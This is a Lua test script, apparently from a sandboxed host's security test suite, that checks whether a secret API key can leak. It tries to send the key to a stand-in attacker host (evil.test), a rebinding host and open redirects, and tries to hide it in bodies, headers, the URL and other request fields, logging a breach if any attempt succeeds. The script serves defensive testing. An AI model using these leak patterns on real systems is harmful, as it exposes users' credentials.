-- ATTACK secrets: send the secret to the wrong place, in the wrong part, or let an answer echo it | SAFE HOST: refused; answers that echo it are scrubbed
-- SPDX-License-Identifier: MIT
local s = host.secret "api_key"
local function try(what, request)
  local ok, body = pcall(host.http, request)
  if ok and tostring(body):find("s3cr3t", 1, true) then host.log("BREACH the value came back: " .. what) end
  return ok
end
try("echo of its place", { url = "https://api.example.com/echo", headers = { Authorization = s } })
local wrong = {
  { url = "https://evil.test/", headers = { Authorization = s } },
  { url = "https://rebind.example.com/echo", headers = { Authorization = s } },
  { url = "https://api.example.com/echo", method = "POST", body = s },
  { url = "https://api.example.com/echo", method = "POST", json = { key = s } },
  { url = "https://api.example.com/echo", method = "POST", json = { { { s } } } },
  { url = "https://api.example.com/echo", method = "POST", form = { key = s } },
  { url = "https://api.example.com/echo", headers = { ["X-Key"] = s } },
  { url = "https://api.example.com/echo", headers = { ["User-Agent"] = s } },
  { url = s },
  { url = "https://api.example.com/echo", method = s },
  { url = "https://api.example.com/echo", idempotency_key = s },
  { url = "https://api.example.com/echo", timeout = s },
  { url = "https://api.example.com/echo", pick = { s } },
  { url = "https://api.example.com/echo", headers = { [s] = "x" } },
}
for i, request in ipairs(wrong) do
  if try("request " .. i, request) then host.log("BREACH request " .. i .. " with the secret in a wrong place was sent") end
end
for _, path in ipairs { "/redirect?https://evil.test/", "/redirect?https://rebind.example.com/echo" } do
  try("redirect " .. path, { url = "https://api.example.com" .. path, headers = { Authorization = s } })
end
